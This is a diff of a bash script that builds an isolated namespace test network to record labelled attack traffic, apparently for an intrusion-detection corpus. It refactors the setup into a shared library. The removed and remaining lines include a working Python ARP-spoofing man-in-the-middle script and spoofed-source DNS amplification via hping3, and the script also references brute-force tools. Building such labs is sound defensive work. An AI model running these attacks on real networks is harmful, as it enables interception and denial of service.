@@ -12,8 +12,8 @@
 #   OUTDIR/realtools.summary.txt what was recorded, attack times, skipped tools
 #   OUTDIR/realtools-logs/       the output of every tool run
 #
-# The network lives entirely in network namespaces this script creates
-# (na-rec-<pid>-*): hosts victim, router, attacker, client1-3 on a Linux
+# The network (scripts/lab.sh, shared with record-corpus.sh) lives entirely
+# in network namespaces this script creates (na-rec-<pid>-*): hosts victim, router, attacker, client1-3 on a Linux
 # bridge in a namespace of its own, and a "wan" namespace behind the router
 # with DNS reflectors. Addresses are 10.213.0.0/24 and fd00:213::/64 on the
 # LAN and 10.213.1.0/24 behind the router; no namespace has a default route,
@@ -92,81 +92,12 @@ if [ "$(id -u)" -ne 0 ]; then
 	exit 1
 fi
 
-log() { printf '%s %s\n' "$(date +%H:%M:%S)" "$*" >&2; }
-die() { log "ERROR: $*"; exit 1; }
-now() { date +%s.%N; }
-have() { command -v "$1" >/dev/null 2>&1; }
-# pause SECONDS: a sleep that a signal interrupts at once (a foreground
-# sleep would hold the trap until it ends).
-pause() { sleep "$1" & wait $!; }
+# The test network: addresses, namespaces, services, benign loops, cleanup.
+# shellcheck source=lab.sh
+. "$(dirname "${BASH_SOURCE[0]}")/lab.sh"
 
-# ---------------------------------------------------------------- tools
-# command:package; the package is installed when the command is missing.
-# (brctl and ping are not used by the script: they are there to look at the
-# test network by hand; arping stands in for python3 for ARP spoofing.)
-TOOLS="tcpdump:tcpdump ip:iproute2 bridge:iproute2 nmap:nmap hping3:hping3 hydra:hydra
-slowhttptest:slowhttptest sshd:openssh-server ssh:openssh-client ssh-keygen:openssh-client
-dnsmasq:dnsmasq-base nginx:nginx-light curl:curl dig:dnsutils brctl:bridge-utils
-arping:arping ping:iputils-ping timeout:coreutils python3:python3"
-path_has() { PATH=$PATH:/usr/sbin:/sbin command -v "$1" >/dev/null 2>&1; }
-export PATH=$PATH:/usr/sbin:/sbin
-
-install_missing() {
-	local pkgs="" entry cmd pkg
-	for entry in $TOOLS; do
-		cmd=${entry%%:*} pkg=${entry#*:}
-		path_has "$cmd" || pkgs="$pkgs $pkg"
-	done
-	[ -n "$pkgs" ] || return 0
-	if [ "$INSTALL" -eq 0 ] || ! have apt-get; then
-		log "missing packages (not installing):$pkgs"
-		return 0
-	fi
-	log "installing:$pkgs"
-	# Keep the packages' services (sshd, nginx) from starting on the host:
-	# this script runs its own copies inside the namespaces.
-	local policy=/usr/sbin/policy-rc.d made_policy=0
-	if [ ! -e "$policy" ]; then
-		printf '#!/bin/sh\nexit 101\n' >"$policy" && chmod 755 "$policy" && made_policy=1
-		trap 'rm -f /usr/sbin/policy-rc.d' EXIT
-	fi
-	export DEBIAN_FRONTEND=noninteractive
-	local p avail=""
-	apt-get update -qq || log "apt-get update failed; trying the cached package lists"
-	for p in $pkgs; do
-		if apt-cache policy "$p" 2>/dev/null | grep -q 'Candidate: [0-9]'; then
-			avail="$avail $p"
-		else
-			log "package $p is not available; what needs it is skipped"
-		fi
-	done
-	# shellcheck disable=SC2086 # word splitting of the package list is wanted
-	[ -z "$avail" ] || apt-get install -y -qq --no-install-recommends $avail >/dev/null ||
-		log "apt-get install failed; going on with what is installed"
-	if [ "$made_policy" -eq 1 ]; then
-		rm -f "$policy"
-		trap - EXIT
-	fi
-}
-install_missing
+lab_install_missing "$INSTALL"
 for c in ip tcpdump timeout curl; do have "$c" || die "$c is required and not installed"; done
-PY=$(command -v /usr/bin/python3 || command -v python3 || true)
-
-# ---------------------------------------------------------------- layout
-P="na-rec-$$"
-NS_SW="$P-switch" NS_VICTIM="$P-victim" NS_ROUTER="$P-router" NS_ATTACKER="$P-attacker" NS_WAN="$P-wan"
-NS_CLIENTS=("$P-client1" "$P-client2" "$P-client3")
-ALL_NS=("$NS_SW" "$NS_VICTIM" "$NS_ROUTER" "$NS_ATTACKER" "$NS_WAN" "${NS_CLIENTS[@]}")
-
-LAN4=10.213.0 LAN6=fd00:213: WAN4=10.213.1
-VICTIM=$LAN4.10 VICTIM6=${LAN6}:10
-ROUTER=$LAN4.1 ROUTER6=${LAN6}:1
-ATTACKER=$LAN4.66
-SPOOFED=("$LAN4.200" "$LAN4.201" "$LAN4.202" "$LAN4.203") # unused LAN addresses
-ROUTER_WAN=$WAN4.1 WAN_HOST=$WAN4.2
-REFLECTORS=("$WAN4.53" "$WAN4.54" "$WAN4.55" "$WAN4.56")
-# client namespace index : IPv4 host part; every client also has an IPv6 twin.
-CLIENT_HOSTS=("0:101" "0:102" "0:103" "1:104" "1:105" "1:106" "2:107" "2:108")
 
 mkdir -p "$OUTDIR"
 OUTDIR=$(cd "$OUTDIR" && pwd)
@@ -175,318 +106,24 @@ LABELS=$OUTDIR/realtools.labels.csv
 META=$OUTDIR/realtools.meta
 SUMMARY=$OUTDIR/realtools.summary.txt
 LOGDIR=$OUTDIR/realtools-logs
+LAB_LOGDIR=$LOGDIR
 rm -rf "$LOGDIR" && mkdir -p "$LOGDIR"
 rm -f "$PCAP" "$LABELS" "$META" "$SUMMARY"
-RUN=$(mktemp -d "/tmp/$P.XXXXXX")
-chmod 755 "$RUN" # nginx workers (nobody) read the web root below it
-STOP=$RUN/stop
-BG_PIDS=()
-TCPDUMP_PID=""
-CUR_PID=""
-MADE_RUN_SSHD=0
-SKIPPED=()
 T_BEGIN=$(now)
 
-# ---------------------------------------------------------------- cleanup
-cleanup() {
-	local rc=$? ns pids pid
-	set +e
-	trap - EXIT
-	trap '' INT TERM HUP # a second Ctrl-C must not cut the cleanup short
-	touch "$STOP" 2>/dev/null
-	[ -z "$TCPDUMP_PID" ] || kill -TERM "$TCPDUMP_PID" 2>/dev/null
-	for pid in "${BG_PIDS[@]}" $CUR_PID; do kill "$pid" 2>/dev/null; done
-	for ns in "${ALL_NS[@]}"; do
-		[ -e "/run/netns/$ns" ] || continue
-		pids=$(ip netns pids "$ns" 2>/dev/null)
-		# shellcheck disable=SC2086 # one pid per word
-		[ -z "$pids" ] || kill $pids 2>/dev/null
-	done
-	sleep 1
-	for ns in "${ALL_NS[@]}"; do
-		[ -e "/run/netns/$ns" ] || continue
-		pids=$(ip netns pids "$ns" 2>/dev/null)
-		# shellcheck disable=SC2086
-		[ -z "$pids" ] || kill -9 $pids 2>/dev/null
-	done
-	# Our own children: services, loops, and the sleep of a pause.
-	for pid in "${BG_PIDS[@]}" $(jobs -p); do kill -9 "$pid" 2>/dev/null; done
-	wait 2>/dev/null
-	for ns in "${ALL_NS[@]}"; do
-		[ -e "/run/netns/$ns" ] && ip netns del "$ns" 2>/dev/null
-	done
-	[ "$MADE_RUN_SSHD" -eq 0 ] || rmdir /run/sshd 2>/dev/null
-	rm -rf "$RUN"
-	[ "$rc" -eq 0 ] || log "failed (exit $rc); namespaces and processes cleaned up"
-	exit "$rc"
-}
-trap cleanup EXIT
-trap 'exit 130' INT
-trap 'exit 143' TERM
-trap 'exit 129' HUP
+lab_begin
+lab_network
 
-# ---------------------------------------------------------------- network
-nsx() { local ns=$1; shift; ip netns exec "$ns" "$@"; }
-
-log "creating namespaces $P-* in $RUN"
-for ns in "${ALL_NS[@]}"; do
-	ip netns add "$ns"
-	nsx "$ns" ip link set lo up
-done
-nsx "$NS_SW" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
-nsx "$NS_SW" ip link add br0 type bridge stp_state 0 forward_delay 0
-nsx "$NS_SW" ip link set br0 up
-
-# lan_host NS PORT: a veth from namespace NS (eth0) to bridge port PORT.
-lan_host() {
-	local ns=$1 port=$2
-	ip -n "$NS_SW" link add "$port" type veth peer name eth0 netns "$ns"
-	ip -n "$NS_SW" link set "$port" master br0 up
-	nsx "$ns" sysctl -qw net.ipv6.conf.all.accept_ra=0 net.ipv6.conf.default.accept_ra=0 \
-		net.ipv6.conf.all.autoconf=0 net.ipv6.conf.default.autoconf=0 2>/dev/null || true
-	ip -n "$ns" link set eth0 up
-}
-lan_host "$NS_VICTIM" p-victim
-ip -n "$NS_VICTIM" addr add "$VICTIM/24" dev eth0
-ip -n "$NS_VICTIM" addr add "$VICTIM6/64" dev eth0 nodad
-lan_host "$NS_ROUTER" p-router
-ip -n "$NS_ROUTER" addr add "$ROUTER/24" dev eth0
-ip -n "$NS_ROUTER" addr add "$ROUTER6/64" dev eth0 nodad
-lan_host "$NS_ATTACKER" p-attacker
-ip -n "$NS_ATTACKER" addr add "$ATTACKER/24" dev eth0
-for i in 0 1 2; do lan_host "${NS_CLIENTS[$i]}" "p-client$((i + 1))"; done
-for ch in "${CLIENT_HOSTS[@]}"; do
-	i=${ch%%:*} h=${ch#*:}
-	ip -n "${NS_CLIENTS[$i]}" addr add "$LAN4.$h/24" dev eth0
-	ip -n "${NS_CLIENTS[$i]}" addr add "${LAN6}:$h/64" dev eth0 nodad
-done
-# Behind the router: the reflectors' network. The router forwards between
-# the two; the victim knows the way back (for its ICMP errors). No default
-# route anywhere.
-ip -n "$NS_ROUTER" link add wan0 type veth peer name eth0 netns "$NS_WAN"
-ip -n "$NS_ROUTER" addr add "$ROUTER_WAN/24" dev wan0
-ip -n "$NS_ROUTER" link set wan0 up
-ip -n "$NS_WAN" addr add "$WAN_HOST/24" dev eth0
-for r in "${REFLECTORS[@]}"; do ip -n "$NS_WAN" addr add "$r/32" dev eth0; done
-ip -n "$NS_WAN" link set eth0 up
-ip -n "$NS_WAN" route add "$LAN4.0/24" via "$ROUTER_WAN"
-ip -n "$NS_VICTIM" route add "$WAN4.0/24" via "$ROUTER"
-nsx "$NS_ROUTER" sysctl -qw net.ipv4.ip_forward=1
-nsx "$NS_ATTACKER" sysctl -qw net.ipv4.conf.all.send_redirects=0 net.ipv4.conf.eth0.send_redirects=0
-
-mac_of() { ip -n "$1" -o link show eth0 | sed -n 's/.*link\/ether \([0-9a-f:]*\).*/\1/p'; }
-ATTACKER_MAC=$(mac_of "$NS_ATTACKER")
-ROUTER_MAC=$(mac_of "$NS_ROUTER")
-VICTIM_MAC=$(mac_of "$NS_VICTIM")
-
-# ---------------------------------------------------------------- capture
 log "capturing on br0 in $NS_SW"
-ip netns exec "$NS_SW" tcpdump -i br0 -s 256 -B 65536 -Z root -nn -w "$PCAP" 2>"$RUN/tcpdump.err" &
-TCPDUMP_PID=$!
-for _ in $(seq 50); do grep -q 'listening on' "$RUN/tcpdump.err" && break; sleep 0.1; done
-grep -q 'listening on' "$RUN/tcpdump.err" || die "tcpdump did not start: $(cat "$RUN/tcpdump.err")"
+lab_capture_start "$PCAP"
 T_CAPTURE=$(now)
 
-# ---------------------------------------------------------------- services
-# Web server on the victim: a few pages of different sizes.
-mkdir -p "$RUN/www" "$RUN/nginx"
-head -c 2000 /dev/urandom | base64 >"$RUN/www/index.html"
-head -c 15000 /dev/urandom | base64 >"$RUN/www/page.html"
-head -c 120000 /dev/urandom >"$RUN/www/image.jpg"
-head -c 600000 /dev/urandom >"$RUN/www/download.bin"
-chmod -R a+rX "$RUN/www"
-if have nginx; then
-	cat >"$RUN/nginx/nginx.conf" <<EOF
-worker_processes 1;
-worker_rlimit_nofile 8192;
-daemon off;
-user nobody nogroup;
-pid $RUN/nginx/nginx.pid;
-error_log $RUN/nginx/error.log warn;
-events { worker_connections 4096; }
-http {
-    access_log off;
-    client_body_temp_path $RUN/nginx/body;
-    proxy_temp_path $RUN/nginx/proxy;
-    fastcgi_temp_path $RUN/nginx/fastcgi;
-    uwsgi_temp_path $RUN/nginx/uwsgi;
-    scgi_temp_path $RUN/nginx/scgi;
-    keepalive_timeout 5;
-    client_header_timeout 120s;
-    server {
-        listen $VICTIM:80;
-        listen [$VICTIM6]:80;
-        root $RUN/www;
-    }
-}
-EOF
-	ip netns exec "$NS_VICTIM" nginx -p "$RUN/nginx" -c "$RUN/nginx/nginx.conf" >"$LOGDIR/nginx.log" 2>&1 &
-	BG_PIDS+=($!)
-	WEB=nginx
-elif [ -n "$PY" ]; then
-	(cd "$RUN/www" && exec ip netns exec "$NS_VICTIM" "$PY" -m http.server 80 --bind "$VICTIM" >"$LOGDIR/http.log" 2>&1) &
-	BG_PIDS+=($!)
-	WEB="python3 http.server"
-else
-	die "no web server: install nginx-light or python3"
-fi
+lab_services
 
-# DNS server for the local zone, on the router.
-HAVE_DNS=0
-if have dnsmasq; then
-	ip netns exec "$NS_ROUTER" dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts --no-poll \
-		--user=nobody --group=nogroup --pid-file="$RUN/dnsmasq-lan.pid" --bind-interfaces \
-		--listen-address="$ROUTER" --listen-address="$ROUTER6" --local=/lab.test/ --domain-needed \
-		--host-record="www.lab.test,$VICTIM,$VICTIM6" --host-record="ssh.lab.test,$VICTIM,$VICTIM6" \
-		--host-record="gw.lab.test,$ROUTER,$ROUTER6" --host-record="mail.lab.test,$LAN4.25" \
-		--mx-host=lab.test,mail.lab.test,10 --txt-record=lab.test,"v=spf1 mx -all" \
-		--cname=intranet.lab.test,www.lab.test --srv-host=_ssh._tcp.lab.test,ssh.lab.test,22 \
-		>"$LOGDIR/dnsmasq-lan.log" 2>&1 &
-	BG_PIDS+=($!)
-	HAVE_DNS=1
-else
-	SKIPPED+=("benign DNS: dnsmasq not installed")
-fi
-
-# SSH server on the victim. Key logins as root inside the victim namespace
-# (the namespaces share the host's user database, so no test account is
-# created); password guesses go to accounts that do not exist.
-HAVE_SSH=0
-if have sshd && have ssh && have ssh-keygen; then
-	ssh-keygen -q -t ed25519 -N '' -f "$RUN/ssh_host_ed25519_key"
-	ssh-keygen -q -t ed25519 -N '' -f "$RUN/client_key"
-	cp "$RUN/client_key.pub" "$RUN/authorized_keys"
-	cat >"$RUN/sshd_config" <<EOF
-Port 22
-ListenAddress $VICTIM
-ListenAddress $VICTIM6
-HostKey $RUN/ssh_host_ed25519_key
-PidFile $RUN/sshd.pid
-AuthorizedKeysFile $RUN/authorized_keys
-StrictModes no
-UsePAM no
-PermitRootLogin prohibit-password
-PasswordAuthentication yes
-KbdInteractiveAuthentication no
-MaxStartups 200:30:400
-MaxAuthTries 6
-LoginGraceTime 20
-PrintMotd no
-PrintLastLog no
-EOF
-	if [ ! -d /run/sshd ]; then mkdir -p /run/sshd && chmod 755 /run/sshd && MADE_RUN_SSHD=1; fi
-	ip netns exec "$NS_VICTIM" "$(command -v sshd)" -D -f "$RUN/sshd_config" -E "$LOGDIR/sshd.log" &
-	BG_PIDS+=($!)
-	HAVE_SSH=1
-else
-	SKIPPED+=("benign SSH and brute force: openssh-server/openssh-client not installed")
-fi
-
-# wait_for NS CMD...: retry CMD in NS for up to 10 s.
-wait_for() {
-	local ns=$1 i
-	shift
-	for i in $(seq 50); do
-		nsx "$ns" "$@" >/dev/null 2>&1 && return 0
-		sleep 0.2
-	done
-	return 1
-}
-wait_for "${NS_CLIENTS[0]}" curl -sf -o /dev/null --max-time 1 "http://$VICTIM/" || die "web server on $VICTIM does not answer ($WEB)"
-if [ "$HAVE_DNS" -eq 1 ] && have dig; then
-	wait_for "${NS_CLIENTS[0]}" dig +short +time=1 +tries=1 "@$ROUTER" www.lab.test ||
-		die "dnsmasq on $ROUTER does not answer: $(cat "$LOGDIR/dnsmasq-lan.log")"
-fi
-if [ "$HAVE_SSH" -eq 1 ]; then
-	wait_for "${NS_CLIENTS[0]}" ssh -F /dev/null -i "$RUN/client_key" -o BatchMode=yes -o StrictHostKeyChecking=no \
-		-o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o ConnectTimeout=2 "root@$VICTIM" true ||
-		die "sshd on $VICTIM does not accept the test key: $(tail -5 "$LOGDIR/sshd.log")"
-fi
-
-# ---------------------------------------------------------------- benign
-# The loops run inside the client namespaces; each is bounded by a count,
-# a deadline and the stop file, and every command in them by a timeout.
-running() { [ ! -e "$STOP" ] && [ "$EPOCHSECONDS" -lt "$1" ]; } # running UNTIL
-rsleep() { # rsleep MIN_MS MAX_MS
-	local ms=$(($1 + (RANDOM * 32768 + RANDOM) % ($2 - $1 + 1)))
-	sleep "$((ms / 1000)).$(printf '%03d' $((ms % 1000)))"
-}
-http_loop() { # http_loop SRC4 SRC6 MEAN_MS
-	local src4=$1 src6=$2 mean=$3 i url host r
-	for ((i = 0; i < 20000; i++)); do
-		running "$DEADLINE" || break
-		host=$VICTIM src=$src4
-		if ((RANDOM % 4 == 0)); then host="[$VICTIM6]" src=$src6; fi
-		r=$((RANDOM % 100))
-		if ((r < 45)); then url=/index.html
-		elif ((r < 75)); then url=/page.html
-		elif ((r < 90)); then url=/image.jpg
-		elif ((r < 95)); then url=/download.bin
-		else url=/missing-$RANDOM; fi
-		timeout 20 curl -s -o /dev/null --max-time 15 --interface "$src" "http://$host$url" >/dev/null
-		# a page pulls its assets now and then
-		if ((RANDOM % 5 == 0)); then
-			timeout 20 curl -s -o /dev/null -o /dev/null --max-time 15 --interface "$src" "http://$host/page.html" "http://$host/image.jpg" >/dev/null
-		fi
-		rsleep $((mean / 4)) $((mean * 7 / 4))
-	done
-}
-dns_loop() { # dns_loop SRC4 SRC6 MEAN_MS
-	local src4=$1 src6=$2 mean=$3 i names types server src
-	names=(www.lab.test mail.lab.test gw.lab.test intranet.lab.test lab.test ssh.lab.test "host$RANDOM.lab.test" _ssh._tcp.lab.test)
-	types=(A A A AAAA MX TXT A SRV)
-	for ((i = 0; i < 20000; i++)); do
-		running "$DEADLINE" || break
-		server=$ROUTER src=$src4
-		if ((RANDOM % 4 == 0)); then server=$ROUTER6 src=$src6; fi
-		local k=$((RANDOM % ${#names[@]}))
-		timeout 6 dig +time=2 +tries=1 -b "$src" "@$server" "${names[$k]}" "${types[$k]}" >/dev/null
-		rsleep $((mean / 4)) $((mean * 7 / 4))
-	done
-}
-ssh_loop() { # ssh_loop SRC MIN_MS MAX_MS
-	local src=$1 i
-	rsleep 1000 "$3"
-	for ((i = 0; i < 1000; i++)); do
-		running "$DEADLINE" || break
-		timeout 20 ssh -F /dev/null -i "$RUN/client_key" -b "$src" -o BatchMode=yes -o StrictHostKeyChecking=no \
-			-o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o ConnectTimeout=5 "root@$VICTIM" \
-			'uptime; ls -l /usr/bin | head -c 4000' >/dev/null 2>&1
-		rsleep "$2" "$3"
-	done
-}
-spike_loop() { # spike_loop SRC UNTIL: back-to-back downloads until UNTIL (epoch seconds)
-	local src=$1 until=$2 i
-	for ((i = 0; i < 5000; i++)); do
-		running "$until" || break
-		timeout 10 curl -s -o /dev/null -o /dev/null --max-time 8 --interface "$src" "http://$VICTIM/page.html" "http://$VICTIM/image.jpg" >/dev/null
-	done
-}
-export -f running rsleep http_loop dns_loop ssh_loop spike_loop
-export STOP RUN VICTIM VICTIM6 ROUTER ROUTER6
-
-# The loops' deadline: the planned length with a generous margin.
-export DEADLINE=$((EPOCHSECONDS + PLANNED + 900))
-
-log "starting benign background: HTTP ($WEB), DNS, SSH from ${#CLIENT_HOSTS[@]} client addresses"
 T_BACKGROUND=$(now)
-n=0
-for ch in "${CLIENT_HOSTS[@]}"; do
-	i=${ch%%:*} h=${ch#*:}
-	ns=${NS_CLIENTS[$i]}
-	mean=$((1500 + (n % 4) * 700)) # clients differ: 1.5 to 3.6 s between requests
-	ip netns exec "$ns" bash -c 'http_loop "$@"' _ "$LAN4.$h" "${LAN6}:$h" "$mean" &
-	BG_PIDS+=($!)
-	if [ "$HAVE_DNS" -eq 1 ] && have dig; then
-		ip netns exec "$ns" bash -c 'dns_loop "$@"' _ "$LAN4.$h" "${LAN6}:$h" $((mean + 1000)) &
-		BG_PIDS+=($!)
-	fi
-	if [ "$HAVE_SSH" -eq 1 ] && ((n % 2 == 0)); then
-		ip netns exec "$ns" bash -c 'ssh_loop "$@"' _ "$LAN4.$h" 25000 75000 &
-		BG_PIDS+=($!)
-	fi
-	n=$((n + 1))
-done
+# The loops' deadline: the planned length with a generous margin. Clients
+# differ: 1.5 to 3.6 s between requests.
+lab_start_benign $((EPOCHSECONDS + PLANNED + 900)) 1500 700 1000 25000 75000
 
 log "benign-only warm-up: ${WARMUP}s"
 pause "$WARMUP"
@@ -617,20 +254,11 @@ if selected dnsamp; then
 		# large TXT record with about 1.1 kB. The attacker sits behind the
 		# router with the reflectors and spoofs the victim's address: the LAN
 		# sees only the answers, from port 53 of four reflectors.
-		txt=$(head -c 3000 /dev/urandom | base64 -w0 | tr -dc 'A-Za-z0-9' | head -c 1000)
-		ip netns exec "$NS_WAN" dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts --no-poll \
-			--user=nobody --group=nogroup --pid-file="$RUN/dnsmasq-wan.pid" --bind-interfaces \
-			"${REFLECTORS[@]/#/--listen-address=}" --edns-packet-max=1232 \
-			--txt-record="amp.reflect.test,${txt:0:250},${txt:250:250},${txt:500:250},${txt:750:250}" \
-			>"$LOGDIR/dnsmasq-reflectors.log" 2>&1 &
-		BG_PIDS+=($!)
-		# id 0x2a17, RD, one question amp.reflect.test TXT IN, EDNS0 OPT 4096.
-		printf '\x2a\x17\x01\x00\x00\x01\x00\x00\x00\x00\x00\x01\x03amp\x07reflect\x04test\x00\x00\x10\x00\x01\x00\x00\x29\x10\x00\x00\x00\x00\x00\x00\x00' >"$RUN/query.bin"
-		qlen=$(stat -c %s "$RUN/query.bin")
-		if wait_for "$NS_WAN" dig +time=1 +tries=1 +bufsize=4096 "@${REFLECTORS[0]}" amp.reflect.test TXT; then
+		if lab_dns_reflectors; then
+			qlen=$(stat -c %s "$RUN/query-txt.bin")
 			args=()
 			for r in "${REFLECTORS[@]}"; do
-				args+=("-q -n --udp -a $VICTIM -s 20000 -p 53 -E $RUN/query.bin -d $qlen -c 2500 -i u2000 $r")
+				args+=("-q -n --udp -a $VICTIM -s 20000 -p 53 -E $RUN/query-txt.bin -d $qlen -c 2500 -i u2000 $r")
 			done
 			attack dnsamp dns_amplification "$WAN4.0/24" wan hping_many "$NS_WAN" "${args[@]}"
 		else
@@ -640,40 +268,16 @@ if selected dnsamp; then
 fi
 if selected arpspoof; then
 	if [ -n "$PY" ]; then
-		cat >"$RUN/arpspoof.py" <<'EOF'
-# ARP spoofing as arpspoof/ettercap do it: every second, tell the whole LAN
-# (gratuitous reply) that the router's IPv4 address is at the attacker's MAC,
-# and tell the router that the victim's is; the attacker forwards what it
-# gets (man in the middle). At the end, re-ARP the true addresses.
-import socket, struct, sys, time
-iface, mine, router_ip, router_mac, victim_ip, victim_mac, rounds = sys.argv[1:8]
-mac = lambda s: bytes.fromhex(s.replace(":", ""))
-ip = socket.inet_aton
-mine, router_mac, victim_mac = mac(mine), mac(router_mac), mac(victim_mac)
-bcast = b"\xff" * 6
-def reply(dst, sender_mac, sender_ip, target_mac, target_ip):
-    return dst + mine + b"\x08\x06" + struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2,
-        sender_mac, ip(sender_ip), target_mac, ip(target_ip))
-s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
-s.bind((iface, 0))
-sent = 0
-for _ in range(int(rounds)):
-    s.send(reply(bcast, mine, router_ip, bcast, router_ip))
-    s.send(reply(router_mac, mine, victim_ip, router_mac, router_ip))
-    sent += 2
-    time.sleep(1)
-for _ in range(3):
-    s.send(reply(bcast, router_mac, router_ip, bcast, router_ip))
-    s.send(reply(router_mac, victim_mac, victim_ip, router_mac, router_ip))
-    sent += 2
-    time.sleep(0.5)
-print("sent", sent, "ARP replies")
-EOF
+		# ARP spoofing as arpspoof/ettercap do it: every second, tell the whole
+		# LAN (gratuitous reply) that the router's IPv4 address is at the
+		# attacker's MAC, and tell the router that the victim's is; the
+		# attacker forwards what it gets (man in the middle). At the end,
+		# re-ARP the true addresses.
 		arp_mitm() {
 			nsx "$NS_ATTACKER" sysctl -qw net.ipv4.ip_forward=1
 			local rc=0
-			timeout $((ARP_ROUNDS + 30)) ip netns exec "$NS_ATTACKER" "$PY" "$RUN/arpspoof.py" eth0 "$ATTACKER_MAC" \
-				"$ROUTER" "$ROUTER_MAC" "$VICTIM" "$VICTIM_MAC" "$ARP_ROUNDS" || rc=$?
+			timeout $((ARP_ROUNDS + 30)) ip netns exec "$NS_ATTACKER" "$PY" "$LABTOOLS/arpspoof.py" eth0 "$ATTACKER_MAC" 1 "$ARP_ROUNDS" \
+				"$ROUTER/$ROUTER_MAC@$ROUTER/ff:ff:ff:ff:ff:ff" "$VICTIM/$VICTIM_MAC@$ROUTER/$ROUTER_MAC" || rc=$?
 			nsx "$NS_ATTACKER" sysctl -qw net.ipv4.ip_forward=0
 			return "$rc"
 		}
@@ -693,13 +297,9 @@ fi
 log "tail: ${TAIL}s of benign traffic"
 pause "$TAIL"
 T_END=$(now)
-touch "$STOP"
-for pid in "${BG_PIDS[@]}"; do kill "$pid" 2>/dev/null || true; done
+lab_stop_benign
 sleep 1
-# (TERM: a background job of a script ignores INT)
-kill -TERM "$TCPDUMP_PID" 2>/dev/null || true
-wait "$TCPDUMP_PID" 2>/dev/null || true
-TCPDUMP_PID=""
+lab_capture_stop
 T_STOP=$(now)
 
 # ---------------------------------------------------------------- labels
